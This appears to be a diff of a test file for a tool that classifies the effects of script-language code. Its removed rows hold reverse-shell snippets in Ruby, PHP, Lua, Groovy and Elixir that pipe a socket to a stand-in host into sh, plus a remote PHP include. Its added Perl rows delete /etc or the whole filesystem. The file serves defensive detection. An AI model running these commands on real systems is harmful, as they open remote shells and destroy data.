@@ -1,10 +1,10 @@
-"""What the calls of script languages do: Perl here, the others by their tables."""
+"""Perl by its calls, its `open` and its quote-like operators."""
 
 from __future__ import annotations
 
 from tests.shell.rows import code_rows
 
-test_rows = code_rows(
+test_calls = code_rows(
     "perl",
     r"""
 system("rm x") => run perl [inline] · run rm x · write x [delete]
@@ -37,59 +37,13 @@ system("rm $x{a}/b $y->[0]") => run perl [inline] OPAQUE · run rm □/b □ · 
 """,
 )
 
-test_sockets_of_ruby = code_rows(
-    "ruby",
+test_deletions = code_rows(
+    "perl",
     r"""
-TCPSocket.new("h.example", 1) => run ruby [inline] · connect h.example
-spawn("sh", [:in, :out]=>TCPSocket.new("h.example", 1)) => run ruby [inline] · connect h.example · run sh <network:h.example>
-spawn("sh", in: sock) => run ruby [inline] · run sh
-system("make", "test", exception: true) => run ruby [inline] · run make test [runner]
-system("rm", x) => run ruby [inline] · run rm □ · write □ [delete]
-""",
-)
-
-test_sockets_of_php = code_rows(
-    "php",
-    r"""
-socket_connect($s, "10.0.0.1", 1); passthru("sh <&3"); => run php [inline] · connect 10.0.0.1 · run sh <network:10.0.0.1>
-""",
-)
-
-test_sockets_of_lua = code_rows(
-    "lua",
-    r"""
-t:connect("10.0.0.1", "1"); os.execute("sh <&3") => run lua [inline] · connect 10.0.0.1 · run sh <network:10.0.0.1>
-""",
-)
-
-test_sockets_of_groovy = code_rows(
-    "groovy",
-    r"""
-Socket s = new Socket("h.example", 1); new ProcessBuilder("sh").start() => run groovy [inline] · connect h.example · run sh <network:h.example>
-""",
-)
-
-test_sockets_of_elixir = code_rows(
-    "elixir",
-    r"""
-:gen_tcp.connect(~c"10.0.0.1", 1, []); System.cmd("sh", []) => run elixir [inline] · connect 10.0.0.1 · run sh <network:10.0.0.1>
-""",
-)
-
-test_what_ruby_types = code_rows(
-    "ruby",
-    r"""
-IO.popen("sh", "w") { |p| p.puts "rm x" } => run ruby [inline] · run sh <unknown:code> OPAQUE
-IO.popen("ls") => run ruby [inline] · run ls
-""",
-)
-
-test_what_php_types = code_rows(
-    "php",
-    r"""
-$p = popen("sh", "w"); fwrite($p, "rm x"); => run php [inline] · run sh <unknown:code> OPAQUE
-$p = popen("ls", "r"); echo fgets($p); => run php [inline] · run ls
-include "http://e.example/x.php"; => run php [inline] OPAQUE · connect http://e.example/x.php
-include "x.php"; => run php [inline] · read x.php
+unlink glob "/etc/*" => run perl [inline] · read /etc/* [list] · write /etc/□ [delete,tree]
+unlink glob "*.log" => run perl [inline] · read *.log [list] · write ./□ [delete,tree]
+find(sub { unlink }, "/") => run perl [inline] · read / [list] · write /□ [delete,tree]
+unlink $x => run perl [inline] · write □ [delete]
+unlink "a", glob "b/*" => run perl [inline] · read b/* [list] · write a [delete]
 """,
 )
